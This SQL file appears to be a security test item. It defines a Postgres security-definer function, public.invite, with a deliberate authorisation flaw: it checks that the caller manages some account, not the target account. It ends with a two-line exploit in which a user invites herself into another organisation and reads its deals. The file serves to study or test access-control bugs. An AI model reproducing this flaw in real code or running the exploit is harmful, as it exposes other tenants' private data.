-- channel: escalation
-- object: public.invite
-- says: Whoever manages some account may invite, and so join, any other.
create or replace function public.invite(p_account uuid, p_email text, p_role text)
returns text
language plpgsql security definer
set search_path = ''
as $$
declare
    token text := gen_random_uuid()::text || gen_random_uuid()::text;
begin
    if not exists (
        select
        from public.memberships as m
        where m.user_id = auth.uid()
            and m.role in ('owner', 'manager')
            and m.status = 'active'
            and (m.valid_until is null or m.valid_until > now())
    ) then
        raise exception 'not allowed' using errcode = '42501';
    end if;
    insert into public.invitations (account_id, email, role, token_hash, invited_by, expires_at)
    values (
        p_account, lower(p_email), p_role, sha256(convert_to(token, 'utf8')), auth.uid(),
        now() + interval '3 days'
    );
    return token;
end
$$;
-- exploit as alice
select public.accept_invitation(public.invite(:org_b, 'alice@bench.test', 'manager'));
select from public.deals where account_id = :org_b;
-- leaks when rows
